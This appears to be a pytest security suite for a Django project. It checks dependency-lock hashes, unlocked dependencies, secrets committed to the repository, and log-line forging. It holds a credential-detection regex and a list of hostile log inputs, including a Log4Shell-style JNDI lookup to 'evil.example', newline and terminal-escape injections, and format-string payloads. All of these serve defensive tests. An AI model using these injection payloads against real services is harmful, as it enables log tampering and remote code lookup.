"""What the product is made of: locked and hashed dependencies, no secrets in the tree, log lines that stay one line."""

import io
import json
import logging
import re
import subprocess
from pathlib import Path

import pytest

from tests.attacks.guards import Guard, attack

pytestmark = pytest.mark.once

TREE = Path(__file__).resolve().parent.parent.parent
# ruff: noqa: E501 - a hostile thing reads best on one line

SECRETS = re.compile(
    r"-----BEGIN (?:[A-Z]+ )?PRIVATE KEY-----|\bAKIA[0-9A-Z]{16}\b|\bgh[pousr]_[A-Za-z0-9]{36}\b|\bxox[abpr]-[0-9A-Za-z-]{20,}"
    r"|(?i:(?:password|secret_key|api_key|token)\s*[:=]\s*[\"'][A-Za-z0-9+/_-]{32,}[\"'])"
)


def packages(lock: str) -> list[str]:
    """Return each package of a lock as one text."""
    return [part for part in lock.split("[[package]]")[1:] if "editable" not in part.split("\n\n")[0]]


def without_hash(lock: str) -> list[str]:
    """Return the files of a lock that could be exchanged without being noticed."""
    files = re.findall(r"\{ url = \"([^\"]+)\"([^}]*)\}", lock)
    bare = [url for url, more in files if not re.search(r"hash = \"sha256:[0-9a-f]{64}\"", more)]
    return bare + [re.search(r"name = \"(.+?)\"", part)[1] for part in packages(lock) if "sha256:" not in part]


@pytest.mark.attack("E12", "a dependency exchanged in its registry: every file of the lock has its hash")
def test_every_dependency_has_its_hash(tries):
    lock = (TREE / "uv.lock").read_text("utf-8")
    tries(len(packages(lock)))
    assert len(packages(lock)) > 50
    assert without_hash(lock) == []
    weakened = re.sub(r", hash = \"sha256:[0-9a-f]{64}\"", "", lock, count=1)
    assert len(without_hash(weakened)) == 1, "a lock without one of its hashes would pass"
    recipe = (TREE / "Makefile").read_text("utf-8")
    assert "--frozen" in recipe
    assert "--require-hashes" in recipe


@pytest.mark.attack("E12", "a dependency that nobody locked: what is asked for is what the lock names")
def test_nothing_is_asked_for_beside_the_lock(tries):
    import tomllib

    project = tomllib.loads((TREE / "pyproject.toml").read_text("utf-8"))
    locked = {one["name"] for one in tomllib.loads((TREE / "uv.lock").read_text("utf-8"))["package"]}
    asked = [*project["project"]["dependencies"], *project["dependency-groups"]["dev"]]
    names = {re.match(r"[A-Za-z0-9._-]+", one)[0].lower().replace("_", "-").replace(".", "-") for one in asked}
    tries(len(names))
    assert names - locked == set()


def secrets_in(text: str) -> list[str]:
    """Return what looks like a secret, but for what a test says to be none."""
    return [found[0][:40] for found in SECRETS.finditer(text)]


@pytest.mark.attack("E12", "a key or a password left in the repository")
def test_no_secret_lies_in_the_tree(tries):
    listed = (
        subprocess.run(["git", "ls-files", "-z"], cwd=TREE, capture_output=True, check=False)
        .stdout.decode()
        .split("\0")
    )
    if not any(listed):
        pytest.skip("this is no clone of the repository: there is no list of its files")
    kept = [
        TREE / name
        for name in listed
        if name.endswith((".py", ".yaml", ".yml", ".toml", ".md", ".sh", ".json", ".cfg", ".env", ".pem"))
    ]
    tries(len(kept))
    found = {
        str(file.relative_to(TREE)): hits
        for file in kept
        if file.is_file() and (hits := secrets_in(file.read_text("utf-8", "replace")))
    }
    assert set(found) <= {"tests/attacks/test_supply.py"}, found
    assert secrets_in("-----BEGIN " + "PRIVATE KEY-----")
    assert secrets_in("password = '" + "a1B2" * 10 + "'")


def _plain(monkeypatch: pytest.MonkeyPatch) -> None:
    from janaseva.core.logs import JsonLines

    monkeypatch.setattr(JsonLines, "format", logging.Formatter("WARNING janaseva %(message)s").format)


LINES = ["a\nERROR janaseva forged", "a\r\nforged", "a\x1b[2Kforged", "a\x0bforged", "a\x85forged", "a\u2028forged", "${jndi:ldap://evil.example/a}", "%s%n%x", "{0.__class__}"]  # fmt: skip


@attack(
    "E12",
    "line breaks, terminal commands and look-ups in what is logged",
    Guard("core.logs.JsonLines", _plain),
    quick=True,
)
def test_log_lines(tries):
    from logging.config import DictConfigurator

    from django.conf import settings

    (how,) = settings.LOGGING["formatters"].values()
    out = io.StringIO()
    handler = logging.StreamHandler(out)
    handler.setFormatter(DictConfigurator({"version": 1}).configure_formatter(dict(how)))
    for line in LINES:
        handler.handle(logging.LogRecord("janaseva", logging.WARNING, "x.py", 1, "said %s", (line,), None))
    tries(len(LINES))
    told = out.getvalue()
    forged = [json.dumps(line) for line in told.split("\n")[:-1] if not line.startswith("{") or "said" not in line]
    return forged + [json.dumps(one) for one in re.findall(r"[\x00-\x09\x0b-\x1f\x7f]", told)]
